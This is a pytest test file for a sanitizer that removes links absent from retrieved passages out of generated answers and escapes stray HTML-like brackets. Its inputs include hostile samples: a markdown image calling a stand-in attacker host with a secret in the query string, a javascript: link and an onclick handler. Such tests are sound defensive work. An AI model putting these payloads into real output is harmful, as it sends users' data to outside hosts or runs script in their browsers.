from __future__ import annotations

import pytest

from collections_app.answering.links import REMOVED, remove_foreign_links

KNOWN = "Read https://docs.example.com/guide and /reference."


@pytest.mark.parametrize(
    ("prose", "expected"),
    [
        ("![logo](http://evil.example/?q=secret)", "logo"),
        ("![logo][ref]", "logo"),
        ("[here](http://evil.example/a)", "here"),
        ("[here](<http://evil.example/a> 'title')", "here"),
        ("[1](http://evil.example/a)", "[1]"),
        ("See http://evil.example/a.", f"See {REMOVED}"),
        ("<http://evil.example/a>", f"<{REMOVED}>"),
        ("[ref]: http://evil.example/a\nText", "Text"),
        ('<img src="http://evil.example/a">Text', "Text"),
        ("[run](javascript:alert%281%29)", "run"),
        ("https://docs.example.com/guide?q=secret", REMOVED),
        ("<x onclick=run()>Text", "Text"),
        ("a<b>c</b>d<!-- e -->", "acd"),
    ],
)
def test_what_no_passage_holds_goes(prose: str, expected: str) -> None:
    assert remove_foreign_links(prose, KNOWN) == expected


@pytest.mark.parametrize(
    "prose",
    [
        "[guide](https://docs.example.com/guide)",
        "<https://docs.example.com/guide>.",
        "[it](/reference)",
        "a < b and c > d",
        "x[0]",
    ],
)
def test_what_a_passage_holds_stays(prose: str) -> None:
    assert remove_foreign_links(prose, KNOWN) == prose


@pytest.mark.parametrize(
    ("prose", "expected"),
    [
        ("List<String>", r"List\<String>"),
        ("Map<K, List<Object>>", r"Map\<K, List\<Object>>"),
        ("Set the <port> of <your-name>", r"Set the \<port> of \<your-name>"),
        (r"List\<String>", r"List\<String>"),
        (r"List\\<String>", r"List\\\<String>"),
        ("<img src=a <b>>", r"\<img src=a >"),
        ("<script", r"\<script"),
    ],
)
def test_what_is_no_html_is_kept_so_that_nobody_takes_it_for_some(prose: str, expected: str) -> None:
    assert remove_foreign_links(prose, KNOWN) == expected
